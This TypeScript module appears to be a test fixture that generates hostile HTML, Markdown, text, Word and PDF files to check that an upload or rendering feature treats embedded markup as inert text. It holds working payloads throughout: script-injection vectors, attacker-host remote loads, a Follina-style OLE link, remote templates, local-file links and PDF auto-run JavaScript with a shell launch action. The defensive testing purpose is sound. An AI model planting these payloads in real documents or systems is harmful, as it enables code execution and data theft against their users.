import JSZip from 'jszip';
import {
  ATTACK_INPUTS,
  ATTACKER,
  DANGLING_MARKUP,
  HOSTILE_HREFS,
  hostileTitle,
  inputHeading,
  RUN,
} from './attackInputs';

/** A file as Playwright's setInputFiles takes it. */
export interface AttackFile {
  name: string;
  mimeType: string;
  buffer: Buffer;
}

/** A heading holding markup: what a heading keeps of it is text. */
const HEADING_WITH_PAYLOAD = `Heading with <img src=x onerror=${RUN}> a payload`;

/** The section headings every file of the corpus gets, one per input, in order. */
export const ATTACK_HEADINGS: readonly string[] = ATTACK_INPUTS.map(inputHeading);

/** Markup in a file's head: title, refresh, base, remote styles, scripts. */
function htmlHead(title: string): string {
  return [
    `<title>${title.replace(/</g, '&lt;')}</title>`,
    `<meta http-equiv="refresh" content="0;url=${ATTACKER}/head-refresh">`,
    `<meta name="author" content="<img src=x onerror=${RUN}>">`,
    `<base href="${ATTACKER}/">`,
    `<link rel="stylesheet" href="${ATTACKER}/head.css">`,
    `<style>@import url(${ATTACKER}/head-import.css); body { background: url(${ATTACKER}/head-bg.png) }</style>`,
    `<script>${RUN}</script>`,
    `<script src="${ATTACKER}/head.js"></script>`,
  ].join('\n');
}

/** Every input in its own section of a web page, with hostile markup in the head too. */
export function attackHtml(): AttackFile {
  const sections = ATTACK_INPUTS.map(
    (input) => `<h2>${inputHeading(input)}</h2>\n<p>Section for ${input.name}.</p>\n${input.html}`,
  );
  const html = `<!DOCTYPE html>\n<html lang="en"><head>\n${htmlHead(hostileTitle('HTML'))}\n</head>\n<body onload="${RUN}">\n<h1>${hostileTitle('HTML').replace(/</g, '&lt;')}</h1>\n${sections.join('\n')}\n<h2>${HEADING_WITH_PAYLOAD}</h2>\n<p>Last words.</p>\n${DANGLING_MARKUP}\n</body></html>\n`;
  return { name: 'attack-corpus.html', mimeType: 'text/html', buffer: Buffer.from(html) };
}

/**
 * Every input in its own section of a Markdown file: as an HTML block, inline in a paragraph,
 * then in the forms only Markdown has. Front matter carries markup into the brief's details.
 */
export function attackMarkdown(): AttackFile {
  const front = [
    '---',
    `title: "${hostileTitle('Markdown')}"`,
    `organisation: "<script>${RUN}</script>"`,
    `authors: ["<svg onload=${RUN}>"]`,
    `tags: ["<iframe src=javascript:${RUN}>"]`,
    `reference: "<a href=javascript:${RUN}>ref</a>"`,
    '---',
  ].join('\n');
  const sections = ATTACK_INPUTS.map((input) =>
    [
      `## ${inputHeading(input)}`,
      `Section for ${input.name}.`,
      input.html,
      `Inline: before ${input.html.replace(/\n/g, ' ')} after.`,
      input.markdown ?? '',
    ].join('\n\n'),
  );
  const markdown = `${front}\n\n${sections.join('\n\n')}\n\n## ${HEADING_WITH_PAYLOAD}\n\nLast words.[^1]\n\n[^1]: A footnote <img src=x onerror=${RUN}> with [a link](javascript:${RUN}).\n\n${DANGLING_MARKUP}\n`;
  return { name: 'attack-corpus.md', mimeType: 'text/markdown', buffer: Buffer.from(markdown) };
}

/** The inputs as the literal text of a plain-text brief: it must show every character. */
export function attackText(): AttackFile {
  const blocks = ATTACK_INPUTS.map(
    (input) => `${inputHeading(input).toUpperCase()}\n\n${input.html}\n\n${input.markdown ?? ''}`,
  );
  const text = `Attack corpus (text)\n\n${hostileTitle('text')}\n\n${blocks.join('\n\n')}\n`;
  return { name: 'attack-corpus.txt', mimeType: 'text/plain', buffer: Buffer.from(text) };
}

const xml = (text: string): string =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';

const run = (text: string): string => `<w:r><w:t xml:space="preserve">${xml(text)}</w:t></w:r>`;
const para = (text: string, style?: string): string =>
  `<w:p>${style ? `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>` : ''}${run(text)}</w:p>`;

/** An inline picture whose bytes are not in the file: `attr` is r:embed or r:link. */
const picture = (attr: string, relId: string, alt: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="p" descr="${xml(alt)}"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p" descr="${xml(alt)}"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attr}="${relId}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

/**
 * A Word document with every input as text under its own heading, and the parts a hostile
 * .docx uses (item 11): hyperlinks to each hostile target (by relationship and by field),
 * pictures linked to a remote address and to a local file, a VML image, an altChunk of HTML
 * with a script, a remote template and an OLE object linked to a remote MHTML page.
 */
export async function attackDocx(): Promise<AttackFile> {
  const relationships: string[] = [
    `<Relationship Id="rIdStyles" Type="${REL}/styles" Target="styles.xml"/>`,
    `<Relationship Id="rIdSettings" Type="${REL}/settings" Target="settings.xml"/>`,
    `<Relationship Id="rIdRemoteImage" Type="${REL}/image" Target="${ATTACKER}/docx-image.png" TargetMode="External"/>`,
    `<Relationship Id="rIdLocalImage" Type="${REL}/image" Target="file:///etc/passwd" TargetMode="External"/>`,
    `<Relationship Id="rIdEmbedRemote" Type="${REL}/image" Target="${ATTACKER}/docx-embed.png" TargetMode="External"/>`,
    `<Relationship Id="rIdChunk" Type="${REL}/aFChunk" Target="chunk.html"/>`,
    `<Relationship Id="rIdRemoteChunk" Type="${REL}/aFChunk" Target="${ATTACKER}/chunk.html" TargetMode="External"/>`,
    `<Relationship Id="rIdOle" Type="${REL}/oleObject" Target="mhtml:${ATTACKER}/follina.html!x-usc:${ATTACKER}/follina.html" TargetMode="External"/>`,
  ];
  const hyperlinks = HOSTILE_HREFS.map((href, index) => {
    relationships.push(
      `<Relationship Id="rIdLink${index}" Type="${REL}/hyperlink" Target="${xml(href)}" TargetMode="External"/>`,
    );
    return `<w:hyperlink r:id="rIdLink${index}">${run(`docx link ${index + 1}`)}</w:hyperlink>`;
  });
  const body = [
    para(hostileTitle('DOCX'), 'Title'),
    ...ATTACK_INPUTS.flatMap((input) => [
      para(inputHeading(input), 'Heading1'),
      para(`Section for ${input.name}.`),
      para(input.html),
      ...(input.markdown ? [para(input.markdown)] : []),
    ]),
    para('Item 11: Hostile Word parts', 'Heading1'),
    `<w:p>${hyperlinks.join(run(' '))}</w:p>`,
    `<w:p><w:fldSimple w:instr="HYPERLINK &quot;javascript:${xml(RUN)}&quot;">${run('field link')}</w:fldSimple></w:p>`,
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "file:///etc/passwd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('complex field link')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    picture('r:link', 'rIdRemoteImage', `a" onerror="${RUN}`),
    picture('r:link', 'rIdLocalImage', 'local file picture'),
    picture('r:embed', 'rIdEmbedRemote', 'embedded remote picture'),
    `<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdRemoteImage" o:title="vml"/></v:shape></w:pict></w:r></w:p>`,
    '<w:altChunk r:id="rIdChunk"/>',
    '<w:altChunk r:id="rIdRemoteChunk"/>',
    `<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdOle" UpdateMode="OnCall"/></w:object></w:r></w:p>`,
    para('Text after the hostile parts.'),
  ].join('');

  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  );
  zip.file(
    '_rels/.rels',
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="${RELS}/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="rId3" Type="${REL}/extended-properties" Target="docProps/app.xml"/></Relationships>`,
  );
  zip.file(
    'docProps/core.xml',
    `<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${xml(hostileTitle('DOCX'))}</dc:title><dc:creator>${xml(`<svg onload=${RUN}>`)}</dc:creator><cp:keywords>${xml(`<script>${RUN}</script>`)}</cp:keywords><cp:category>${xml(`<iframe src=javascript:${RUN}>`)}</cp:category></cp:coreProperties>`,
  );
  zip.file(
    'docProps/app.xml',
    `<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>${xml(`<img src=x onerror=${RUN}>`)}</Company></Properties>`,
  );
  zip.file(
    'word/_rels/document.xml.rels',
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS}">${relationships.join('')}</Relationships>`,
  );
  const style = (id: string, name: string, inner = ''): string =>
    `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${name}"/>${inner}</w:style>`;
  zip.file(
    'word/styles.xml',
    `<?xml version="1.0" encoding="UTF-8"?><w:styles ${W}>${style('Normal', 'Normal')}${style('Title', 'Title')}${style('Heading1', 'heading 1', '<w:pPr><w:outlineLvl w:val="0"/></w:pPr>')}</w:styles>`,
  );
  zip.file(
    'word/settings.xml',
    `<?xml version="1.0" encoding="UTF-8"?><w:settings ${W}><w:attachedTemplate r:id="rIdTemplate"/></w:settings>`,
  );
  zip.file(
    'word/_rels/settings.xml.rels',
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS}"><Relationship Id="rIdTemplate" Type="${REL}/attachedTemplate" Target="${ATTACKER}/template.dotm" TargetMode="External"/></Relationships>`,
  );
  zip.file('word/chunk.html', `<html><body><script>${RUN}</script><p>Chunk text</p></body></html>`);
  zip.file(
    'word/document.xml',
    `<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body>${body}</w:body></w:document>`,
  );
  const bytes = await zip.generateAsync({ type: 'nodebuffer' });
  return {
    name: 'attack-corpus.docx',
    mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    buffer: bytes,
  };
}

/** A PDF string literal: backslashes and parentheses escaped, ASCII only. */
const pdfString = (text: string): string =>
  `(${text.replace(/[^\x20-\x7e]/g, '?').replace(/[\\()]/g, (c) => `\\${c}`)})`;

/**
 * A PDF (item 11) that runs JavaScript when opened (OpenAction, a document-level script, a
 * page-open action), whose link annotations point at javascript:, a remote page and a file,
 * with a Launch action; its text is the inputs' markup, which must show as text.
 */
export function attackPdf(): AttackFile {
  const lines = [
    hostileTitle('PDF'),
    ...ATTACK_INPUTS.slice(0, 10).flatMap((input) => [inputHeading(input), input.html]),
  ];
  const content = [
    `BT /F1 20 Tf 40 800 Td ${pdfString('Attack corpus (PDF)')} Tj ET`,
    'BT /F1 9 Tf 40 770 Td 11 TL',
    ...lines.map((line) => `${pdfString(line.slice(0, 110))} '`),
    'ET',
  ].join('\n');
  const js = (code: string): string => `<< /S /JavaScript /JS ${pdfString(code)} >>`;
  const objects: string[] = [];
  objects[1] = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js(RUN)} /Names << /JavaScript << /Names [(pwn) ${js('app.alert(1)')}] >> >> /AA << /WC ${js(RUN)} >> >>`;
  objects[2] = '<< /Type /Pages /Count 1 /Kids [4 0 R] >>';
  objects[3] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  objects[4] =
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> ` +
    `/Contents 5 0 R /AA << /O ${js(RUN)} >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R] >>`;
  objects[5] = `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const link = (rect: string, action: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [${rect}] /Border [0 0 0] /A ${action} >>`;
  objects[6] = link('40 780 300 800', `<< /S /URI /URI ${pdfString(`javascript:${RUN}`)} >>`);
  objects[7] = link('40 760 300 780', `<< /S /URI /URI ${pdfString(`${ATTACKER}/pdf-link`)} >>`);
  objects[8] = link('40 740 300 760', '<< /S /Launch /F (file:///bin/sh) >>');
  objects[9] = link('40 720 300 740', js(RUN));
  let pdf = '%PDF-1.7\n';
  const offsets: number[] = [];
  for (let id = 1; id < objects.length; id++) {
    offsets[id] = Buffer.byteLength(pdf, 'latin1');
    pdf += `${id} 0 obj\n${objects[id]}\nendobj\n`;
  }
  const xrefAt = Buffer.byteLength(pdf, 'latin1');
  pdf += `xref\n0 ${objects.length}\n0000000000 65535 f \n`;
  for (let id = 1; id < objects.length; id++) {
    pdf += `${String(offsets[id]).padStart(10, '0')} 00000 n \n`;
  }
  pdf += `trailer\n<< /Size ${objects.length} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return {
    name: 'attack-corpus.pdf',
    mimeType: 'application/pdf',
    buffer: Buffer.from(pdf, 'latin1'),
  };
}
